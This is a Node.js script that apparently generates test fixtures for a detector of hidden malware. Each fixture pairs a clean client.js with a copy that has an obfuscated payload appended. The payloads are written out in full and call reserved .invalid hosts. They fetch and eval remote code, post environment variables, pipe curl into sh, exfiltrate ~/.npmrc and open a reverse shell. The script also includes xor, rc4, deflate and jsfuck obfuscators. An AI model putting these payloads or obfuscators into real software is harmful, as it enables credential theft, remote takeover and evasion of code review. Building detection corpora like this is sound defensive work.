// Writes obfuscated scripts: node obfuscate.cjs FOLDER SEEDS FAMILY,... PAYLOAD,...   ("all" for every one)
//
// For each family, payload and seed FOLDER/FAMILY/PAYLOAD-SEED/{old,new}/client.js: a client as it was, and with
// the payload, obfuscated, behind it. Nothing is run but the obfuscators; hosts are reserved names.
'use strict';
const fs = require('fs');
const path = require('path');

// What is put in, and how its evidence has to name it: the host and one of the calls.
const PAYLOADS = {
	download: {
		host: 'cobalt-pepper.invalid',
		calls: ['https.get', 'eval', 'Function'],
		code: (host) => `const https = require('https');
https.get('https://${host}/a.js', (answer) => {
	let text = '';
	answer.on('data', (part) => { text += part; });
	answer.on('end', () => { eval(text); });
});`,
	},
	environment: {
		host: 'saffron-basalt.invalid',
		calls: ['fetch'],
		code: (host) => `fetch('https://${host}/e', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});`,
	},
	command: {
		host: 'tundra-cedar.invalid',
		calls: ['exec'],
		code: (host) => `const processes = require('child_process');
processes.exec('curl -fsSL https://${host}/i.sh | sh');`,
	},
	files: {
		host: 'velvet-anchor.invalid',
		calls: ['request'],
		code: (host) => `const files = require('fs'), os = require('os'), web = require('https');
const secret = files.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const sent = web.request({ hostname: '${host}', path: '/n', method: 'POST' });
sent.write(secret);
sent.end();`,
	},
	shell: {
		host: 'walnut-harbour.invalid',
		calls: ['connect', 'spawn'],
		code: (host) => `const net = require('net'), child = require('child_process');
const line = net.connect(4444, '${host}', () => {
	const sh = child.spawn('/bin/sh', ['-i']);
	line.pipe(sh.stdin);
	sh.stdout.pipe(line);
});`,
	},
};

const CLIENT = `'use strict';

const https = require('https');
const { execFile } = require('child_process');

function get(path, done) {
	https.get('https://api.thing.example/v2/' + path, (answer) => {
		let text = '';
		answer.on('data', (part) => { text += part; });
		answer.on('end', () => done(null, JSON.parse(text)));
	}).on('error', done);
}

function open(page) {
	execFile(process.env.BROWSER || 'xdg-open', [page]);
}

module.exports = { get, open };
`;

function random(seed) {
	let state = seed * 2654435761 >>> 0 || 1;
	return () => {
		state ^= state << 13;
		state ^= state >>> 17;
		state ^= state << 5;
		return (state >>> 0) / 4294967296;
	};
}

const arrays = (more) => (code, seed) => require('javascript-obfuscator').obfuscate(code, {
	seed, compact: true, stringArray: true, stringArrayThreshold: 1, stringArrayRotate: true, stringArrayShuffle: true, ...more,
}).getObfuscatedCode();

// This one has no seed of its own.
const confused = (options) => async (code, seed) => {
	const own = Math.random;
	Math.random = random(seed);
	try {
		return (await require('js-confuser').obfuscate(code, { target: 'node', ...options })).code;
	} finally {
		Math.random = own;
	}
};

const short = async (code) => (await require('terser').minify(code, { mangle: { toplevel: true } })).code;

// Minified, and packed by hand.
const packed = (pack) => async (code, seed) => pack(await short(code), random(seed));

const hex = (text) => Buffer.from(text).toString('hex');
const PACKERS = {
	xor(code, rand) {
		const key = Array.from({ length: 8 }, () => String.fromCharCode(97 + Math.floor(rand() * 26))).join('');
		const data = hex(Buffer.from(code).map((byte, i) => byte ^ key.charCodeAt(i % 8)));
		return `(function(d,k){for(var s="",i=0;i<d.length;i+=2)s+=String.fromCharCode(parseInt(d.substr(i,2),16)^k.charCodeAt(i/2%k.length));` +
			`Function("require","process",s)(require,process)})("${data}","${key}");`;
	},
	codes(code, rand) {
		const by = 3 + Math.floor(rand() * 50);
		return `eval(String.fromCharCode.apply(null,[${[...code].map((c) => c.charCodeAt(0) + by)}].map(function(n){return n-${by}})));`;
	},
	deflate(code) {
		const data = require('zlib').deflateRawSync(code).toString('base64').split('').reverse().join('');
		return `new Function("require",require("zlib").inflateRawSync(Buffer.from("${data}".split("").reverse().join(""),"base64")).toString())(require);`;
	},
	rc4(code, rand) {
		const key = Array.from({ length: 12 }, () => Math.floor(rand() * 36).toString(36)).join('');
		const s = Array.from({ length: 256 }, (_, i) => i);
		for (let i = 0, j = 0; i < 256; i++) {
			j = (j + s[i] + key.charCodeAt(i % key.length)) & 255;
			[s[i], s[j]] = [s[j], s[i]];
		}
		let a = 0, b = 0;
		const data = Buffer.from(code).map((byte) => {
			a = (a + 1) & 255;
			b = (b + s[a]) & 255;
			[s[a], s[b]] = [s[b], s[a]];
			return byte ^ s[(s[a] + s[b]) & 255];
		}).toString('base64');
		return `var _k="${key}",_d=atob("${data}"),_s=[],_i,_j=0,_t,_o="";for(_i=0;_i<256;_i++)_s[_i]=_i;` +
			'for(_i=0;_i<256;_i++){_j=(_j+_s[_i]+_k.charCodeAt(_i%_k.length))%256;_t=_s[_i];_s[_i]=_s[_j];_s[_j]=_t}_i=_j=0;' +
			'for(var _n=0;_n<_d.length;_n++){_i=(_i+1)%256;_j=(_j+_s[_i])%256;_t=_s[_i];_s[_i]=_s[_j];_s[_j]=_t;' +
			'_o+=String.fromCharCode(_d.charCodeAt(_n)^_s[(_s[_i]+_s[_j])%256])}eval(_o);';
	},
	// Words in a list, and text that names them by number.
	words(code) {
		const words = [...new Set(code.match(/\w+/g))];
		const text = code.replace(/\w+/g, (w) => words.indexOf(w).toString(36));
		return `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp("\\\\b"+e(c)+"\\\\b","g"),` +
			`"\\x01"+c+"\\x02");return p.replace(/\\x01(\\d+)\\x02/g,function(m,n){return k[n]})}(${JSON.stringify(text)},36,${words.length},` +
			`${JSON.stringify(words.join('|'))}.split("|"),0,{}));`;
	},
};

const FAMILIES = {
	'arrays-base64': arrays({ stringArrayEncoding: ['base64'] }),
	'arrays-rc4': arrays({
		stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 3, stringArrayWrappersType: 'function', stringArrayWrappersChainedCalls: true,
		splitStrings: true, splitStringsChunkLength: 5, transformObjectKeys: true,
	}),
	'arrays-flow': arrays({
		stringArrayEncoding: ['none'], controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, deadCodeInjection: true,
		deadCodeInjectionThreshold: 0.4, numbersToExpressions: true, unicodeEscapeSequence: true,
	}),
	'arrays-defended': arrays({ stringArrayEncoding: ['base64', 'rc4'], selfDefending: true, disableConsoleOutput: true, identifierNamesGenerator: 'mangled' }),
	'confuser-low': confused({ preset: 'low' }),
	'confuser-medium': confused({ preset: 'medium' }),
	'confuser-high': confused({ preset: 'high' }),
	jsfuck: async (code) => require('jsfuck').JSFuck.encode(await short(code), true),
	'uglify-words': async (code) => PACKERS.words(require('uglify-js').minify(code, { toplevel: true }).code),
};
for (const name of ['xor', 'codes', 'deflate', 'rc4'])
	FAMILIES['terser-' + name] = packed(PACKERS[name]);

async function main([folder, seeds, families, payloads]) {
	const chosen = (all, names) => Object.keys(all).filter((name) => names === 'all' || names.split(',').includes(name));
	for (const family of chosen(FAMILIES, families)) {
		for (const payload of chosen(PAYLOADS, payloads)) {
			for (let seed = 1; seed <= seeds; seed++) {
				const { code, host, calls } = PAYLOADS[payload];
				// In a block of its own where the obfuscator keeps it as it is.
				const text = await FAMILIES[family](code(host), seed);
				const at = path.join(folder, family, payload + '-' + seed);
				for (const [side, tail] of [['old', ''], ['new', '\n;(() => {\n' + text + '\n})();\n']]) {
					fs.mkdirSync(path.join(at, side), { recursive: true });
					fs.writeFileSync(path.join(at, side, 'client.js'), CLIENT + tail);
					fs.writeFileSync(path.join(at, side, 'package.json'), '{"name": "thing", "version": "1.0.0", "main": "client.js"}\n');
				}
				console.log(JSON.stringify({ family, payload, seed, host, calls, at, bytes: text.length }));
			}
		}
	}
}

main(process.argv.slice(2)).catch((problem) => {
	console.error(problem);
	process.exit(1);
});
